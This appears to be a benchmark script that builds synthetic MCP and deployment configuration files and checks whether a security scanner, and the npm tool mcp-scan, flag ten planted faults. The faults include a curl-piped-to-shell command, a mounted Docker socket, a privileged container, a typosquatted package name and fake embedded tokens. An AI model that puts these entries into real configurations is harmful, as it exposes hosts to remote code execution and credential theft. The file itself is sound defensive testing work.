// SPDX-License-Identifier: Apache-2.0
// Part of `make bench`: a static check of a folder against its goals, and the same files
// given to npm mcp-scan. Files, faults and honest twins are made here, so what a scanner
// ought to say is known.
import { execFileSync, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';

const B = path.resolve(process.env.B || 'build');
const PEER = 'mcp-scan@2.0.8';
const GOAL_MS = 150;
const GOAL_MIB = 32;
const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'bench-check-'));
process.on('exit', () => fs.rmSync(dir, { recursive: true, force: true }));
const env = { PATH: process.env.PATH, HOME: path.join(dir, 'home'), LC_ALL: 'C.UTF-8' };
fs.mkdirSync(env.HOME);

function write(name, text) {
	const p = path.join(dir, name);
	fs.mkdirSync(path.dirname(p), { recursive: true });
	fs.writeFileSync(p, typeof text === 'string' ? text : JSON.stringify(text, null, 2) + '\n');
	return p;
}

// Entries as projects have them, some without an exact version: nothing in them is high.
// ref writes a variable as the host of the file expands it, http names its transport.
const honest = [
	() => ({ command: 'npx', args: ['-y', '@modelcontextprotocol/server-memory'] }),
	() => ({ command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem@2025.8.21', './docs'] }),
	(i, ref, http) => ({ type: http, url: `https://mcp${i}.example.com/mcp`, headers: { Authorization: `Bearer ${ref('API_TOKEN')}` } }),
	() => ({ command: 'uvx', args: ['mcp-server-fetch==2025.4.7'], env: { LOG_LEVEL: 'ERROR' } }),
	(i, ref) => ({ command: 'docker', args: ['run', '-i', '--rm', '-e', 'SERVICE_TOKEN', `example/mcp-${i}:1.4.2`], env: { SERVICE_TOKEN: ref('SERVICE_TOKEN') } }),
	(i) => ({ command: 'node', args: ['dist/index.js'], env: { PORT: String(3000 + i), NODE_ENV: 'production' } }),
	(i, ref) => ({ command: 'python', args: ['-m', `tool_${i}.server`], env: { DATABASE_URL: ref('DATABASE_URL') } }),
];
const dollar = (name) => `\${${name}}`;
const colon = (name) => `\${env:${name}}`;
const places = [
	['.mcp.json', 'mcpServers', dollar, 'http'], ['.cursor/mcp.json', 'mcpServers', colon, 'http'],
	['.vscode/mcp.json', 'servers', colon, 'http'], ['.kilocode/mcp.json', 'mcpServers', colon, 'streamable-http'],
	['.roo/mcp.json', 'mcpServers', colon, 'streamable-http'], ['mcp.json', 'mcpServers', dollar, 'http'],
	['.windsurf/mcp.json', 'mcpServers', colon, 'http'], ['.gemini/settings.json', 'mcpServers', dollar, 'http'],
	['config/servers.json', 'mcpServers', dollar, 'http'],
];

function serverFile(i) {
	const [place, key, ref, http] = places[i % places.length];
	const map = {};
	for (let k = 0; k < 1 + (i % 4); k++)
		map[`server-${i}-${k}`] = {
			description: 'Answers questions about one part of the project.',
			...honest[(i + 3 * k) % honest.length](i, ref, http),
		};
	return [place, { [key]: map }];
}

function composeFile(i) {
	const one = (name, image) => `  ${name}:
    image: ${image}
    restart: unless-stopped
    mem_limit: 512m
    environment:
      PORT: "8080"
      DATABASE_URL: postgresql://app:\${DB_PASSWORD}@db:5432/app
    ports:
      - "127.0.0.1:${8000 + i}:8080"
    logging: { driver: json-file, options: { max-size: 10m } }
`;
	return `services:\n${one('api', 'example/api:2.1.0')}${one('worker', 'example/worker:2.1.0')}${one('web', 'example/web:2.1.0')}`;
}

function kubernetesFile(i) {
	return `apiVersion: apps/v1
kind: Deployment
metadata: { name: api-${i}, namespace: shop-${i} }
spec:
  replicas: 1
  selector: { matchLabels: { app: api-${i} } }
  template:
    metadata: { labels: { app: api-${i} } }
    spec:
      automountServiceAccountToken: false
      securityContext: { runAsNonRoot: true, seccompProfile: { type: RuntimeDefault } }
      containers:
        - name: api
          image: example/api:2.1.0
          ports: [{ name: http, containerPort: 8080 }]
          securityContext: { allowPrivilegeEscalation: false, readOnlyRootFilesystem: true, capabilities: { drop: [ALL] } }
          resources: { requests: { cpu: 100m, memory: 128Mi }, limits: { memory: 256Mi } }
          readinessProbe: { httpGet: { path: /ready, port: http } }
---
apiVersion: v1
kind: Service
metadata: { name: api-${i}, namespace: shop-${i} }
spec:
  selector: { app: api-${i} }
  ports: [{ port: 80, targetPort: http }]
`;
}

function environmentFile(i) {
	let text = '# Settings of the service\n';
	for (let k = 0; k < 28; k++) text += `SERVICE_${k}_SETTING=value-${i}-${k} # what it is for\n`;
	return text;
}

// 443 files: configurations, compose, Kubernetes, variables as 104 to 15, 17 and 20.
function makeTree() {
	let servers = 0;
	for (let i = 0; i < 295; i++) {
		const [place, text] = serverFile(i);
		servers += Object.keys(Object.values(text)[0]).length;
		write(`tree/p${i}/${place}`, text);
	}
	for (let i = 0; i < 43; i++) write(`tree/c${i}/docker-compose.yml`, composeFile(i));
	for (let i = 0; i < 48; i++) write(`tree/k${i}/deployment.yaml`, kubernetesFile(i));
	for (let i = 0; i < 57; i++) write(`tree/e${i}/.env.example`, environmentFile(i));
	return servers;
}

// Strings that look like credentials are put together here, so that no file holds one.
const some = (n) => Array.from({ length: n }, (_, i) => 'aB3dE5fGh7JkLm9NpQrS2tUvW4xYz6'[(i * 7 + 3) % 30]).join('');
const npx = (...args) => ({ command: 'npx', args: ['-y', ...args] });
const docker = (...args) => ({ command: 'docker', args: ['run', '-i', '--rm', ...args] });
// What is wrong, an entry with it, its honest twin.
const planted = [
	['token in env', { ...npx('@example/a@1.2.3'), env: { GITHUB_TOKEN: 'ghp' + '_' + some(36) } },
		{ ...npx('@example/a@1.2.3'), env: { GITHUB_TOKEN: '${env:GITHUB_TOKEN}' } }],
	['token in arguments', npx('@example/b@1.2.3', '--api-key', 'sk-pr' + 'oj-' + some(48)),
		npx('@example/b@1.2.3', '--api-key', '${input:key}')],
	['download into a shell', { command: 'bash', args: ['-c', 'curl -fsSL https://get.example.com/x.sh | sh'] },
		{ command: 'bash', args: ['${workspaceFolder}/scripts/start.sh'] }],
	['container runtime socket', docker('-v', '/var/run/docker.sock:/var/run/docker.sock', 'example/c:1.0.0'),
		docker('-v', '${workspaceFolder}:/work', 'example/c:1.0.0')],
	['privileged container', docker('--privileged', 'example/d:1.0.0'), docker('--read-only', 'example/d:1.0.0')],
	['misspelt package', npx('@modelcontextprotocol/server-filesytem@1.0.0', '${workspaceFolder}'),
		npx('@modelcontextprotocol/server-filesystem@2025.8.21', '${workspaceFolder}')],
	['password in a URL', { ...npx('@example/e@1.2.3'), env: { DATABASE_URL: 'postgresql://app:' + some(20) + '@db.example.com/app' } },
		{ ...npx('@example/e@1.2.3'), env: { DATABASE_URL: 'postgresql://app@db.example.com/app' } }],
	['credential over plain HTTP', { type: 'http', url: 'http://mcp.example.com/mcp', headers: { Authorization: 'Bearer ${env:TOKEN}' } },
		{ type: 'http', url: 'https://mcp.example.com/mcp', headers: { Authorization: 'Bearer ${env:TOKEN}' } }],
	['whole disk as root', npx('@modelcontextprotocol/server-filesystem@2025.8.21', '/'),
		npx('@modelcontextprotocol/server-filesystem@2025.8.21', '/srv/notes')],
	['source not pinned', { command: 'uvx', args: ['--from', 'git+https://github.com/example/f', 'f'] },
		{ command: 'uvx', args: ['--from', 'git+https://github.com/example/f@' + '0123456789abcdef'.repeat(3).slice(0, 40), 'f'] }],
];

function makePlanted() {
	const map = {};
	planted.forEach(([, bad, good], i) => {
		map[`bad${i}`] = bad;
		map[`good${i}`] = good;
	});
	return write('planted/mcp.json', { mcpServers: map });
}

function once(runs, argv) {
	const [ms, min, max, cpu, mib] = execFileSync(`${B}/test/once`, [runs, ...argv], { env }).toString().trim().split(' ').map(Number);
	return { ms, min, max, cpu, mib };
}

const grave = (s) => /^(high|critical)$/i.test(s);
const ours = {
	name: 'compliance-server',
	argv: (p) => [`${B}/compliance-server`, 'check', '--no-store', '--all', '--format', 'json', p],
	argvTree: (p) => ours.argv(p),
	read(text) {
		const d = JSON.parse(text);
		const entries = d.targets.filter((t) => t.type === 'mcp');
		const found = d.targets.flatMap((t) => t.findings.map((f) => ({ server: f.server ?? t.name, severity: f.severity })));
		return {
			servers: entries.length,
			grave: found.filter((f) => grave(f.severity)),
			preview: d.preview.filter((f) => grave(f.severity)),
		};
	},
};

function peerAt(index) {
	// a namespace without a network: it asks for the age of packages otherwise
	const alone = spawnSync('unshare', ['-rn', 'true']).status === 0 ? ['unshare', '-rn'] : [];
	const command = [...alone, process.execPath, index];
	return {
		name: PEER,
		argv: (p) => [...command, 'scan', '--offline', '--json', '--config', p],
		argvTree: (p) => [...command, 'report', '--json', '--configs', p],
		read(text) {
			const d = JSON.parse(text.slice(text.indexOf('{\n')));
			const found = d.results.flatMap((r) => r.findings.map((f) => ({ server: r.serverName, severity: f.severity })));
			return { servers: d.results.length, grave: found.filter((f) => grave(f.severity)) };
		},
	};
}

function install() {
	const given = process.env.MCP_SCAN && path.join(process.env.MCP_SCAN, 'dist/index.js');
	if (given) return fs.existsSync(given) ? peerAt(given) : `no ${given}`;
	const r = spawnSync('npm', ['install', '--prefix', path.join(dir, 'peer'), '--ignore-scripts', '--no-audit',
		'--no-fund', '--loglevel=error', PEER], { encoding: 'utf8', timeout: 120000 });
	const index = path.join(dir, 'peer/node_modules/mcp-scan/dist/index.js');
	return fs.existsSync(index) ? peerAt(index) : (r.stderr || String(r.error || 'npm failed')).split('\n')[0];
}

function say(tool, argv) {
	const r = spawnSync(argv[0], argv.slice(1), { env, encoding: 'utf8', maxBuffer: 1 << 28 });
	try {
		return tool.read(r.stdout);
	} catch (e) {
		return { servers: 0, grave: [], error: (r.stderr || e.message).split('\n')[0] };
	}
}

// Servers the tool reports as high or critical, of those it should and of the others.
function judge(tool, file, expected, others) {
	const said = say(tool, tool.argv(file));
	const named = new Set(said.grave.map((f) => f.server));
	const hinted = new Set((said.preview ?? []).map((f) => f.server));
	return {
		found: expected.filter((s) => named.has(s)),
		previewed: expected.filter((s) => !named.has(s) && hinted.has(s)),
		missed: expected.filter((s) => !named.has(s) && !hinted.has(s)),
		wrong: others.filter((s) => named.has(s)),
		error: said.error,
	};
}

let missed = 0;
function goal(what, value, unit, limit) {
	const over = value > limit;
	missed += over;
	console.log(`${what.padEnd(46)} ${value.toFixed(1)} ${unit}${over ? `  goal ${limit} ${unit} missed` : `  (goal ${limit})`}`);
}

const servers = makeTree();
const tree = path.join(dir, 'tree');
const sample = path.resolve('test/data/spec/mcp.json');
const file = makePlanted();
const peer = install();
const have = typeof peer !== 'string';

console.log(`\nstatic check of a folder: 443 files, ${servers} servers`);
const t = once(15, ours.argvTree(tree));
goal('check, median of 15', t.ms, 'ms', GOAL_MS);
goal('check, resident', t.mib, 'MiB', GOAL_MIB);
if (!have) console.log(`${PEER} is not to be had here (${peer}): nothing is measured beside it`);
console.log('owasp-mcp-scan and mcp-config-audit are not packages of npm: not measured');

const tools = have ? [ours, peer] : [ours];
const rows = tools.map((tool) => {
	const time = tool === ours ? t : once(3, tool.argvTree(tree));
	const all = say(tool, tool.argvTree(tree));
	const bad = planted.map((_, i) => `bad${i}`);
	const good = planted.map((_, i) => `good${i}`);
	const names = Object.keys(JSON.parse(fs.readFileSync(sample)).mcpServers);
	const grave = fs.readFileSync('test/data/spec/findings.txt', 'utf8').split('\n')
		.map((l) => /^\S+ (high|critical) mcp\.json:\S+ \/mcpServers\/([^/]+)/.exec(l)?.[2]).filter(Boolean);
	const one = once(5, tool.argv(file));
	return { tool, time, one, all, planted: judge(tool, file, bad, good),
		sample: judge(tool, sample, grave, names.filter((n) => !grave.includes(n))) };
});
const line = (what, f) => console.log(what.padEnd(46) + rows.map((r) => f(r).padEnd(26)).join(''));
line('', (r) => r.tool.name);
line('time of the folder', (r) => `${r.time.ms.toFixed(1)} ms (${r.time.min.toFixed(1)}-${r.time.max.toFixed(1)})`);
line('processor time of the folder', (r) => `${r.time.cpu.toFixed(1)} ms`);
line('time of one file of 20 servers', (r) => `${r.one.ms.toFixed(1)} ms (${r.one.min.toFixed(1)}-${r.one.max.toFixed(1)})`);
line('resident', (r) => `${r.time.mib.toFixed(1)} MiB`);
line('servers seen', (r) => `${r.all.servers} of ${servers}`);
line('high or critical, none is right', (r) => r.all.error ?? String(r.all.grave.length));
line('10 planted faults found', (r) => r.planted.error ?? `${r.planted.found.length} of ${planted.length}${r.planted.previewed.length ? `, ${r.planted.previewed.length} as preview` : ''}`);
line('their 10 honest twins reported', (r) => r.planted.error ?? String(r.planted.wrong.length));
line("the specification's sample: right, wrong", (r) => r.sample.error ?? `${r.sample.found.length} of ${r.sample.found.length + r.sample.missed.length}, ${r.sample.wrong.length}`);
for (const r of rows)
	for (const s of r.planted.missed) console.log(`  ${r.tool.name} does not report: ${planted[Number(s.slice(3))][0]}`);
if (have)
	console.log('without a network the peer waits in a folder, not with one file and --offline: its processor time tells');
if (have)
	console.log(`ratios: ${(rows[1].time.cpu / t.cpu).toFixed(1)} x in processor time, ` +
		`${(rows[1].one.ms / rows[0].one.ms).toFixed(1)} x in time of one file, ${(rows[1].time.mib / t.mib).toFixed(1)} x in memory, ` +
		`${(rows[0].all.servers / Math.max(1, rows[1].all.servers)).toFixed(1)} x in servers seen`);
const own = rows[0];
if (own.all.grave.length + own.planted.missed.length + own.planted.wrong.length + own.sample.missed.length + own.sample.wrong.length > 0) {
	missed++;
	console.log('goal missed: every planted fault and nothing else');
}
if (own.all.servers !== servers) {
	missed++;
	console.log('goal missed: every server seen');
}
console.log(missed === 0 ? 'every goal was reached' : `${missed} goals were missed`);
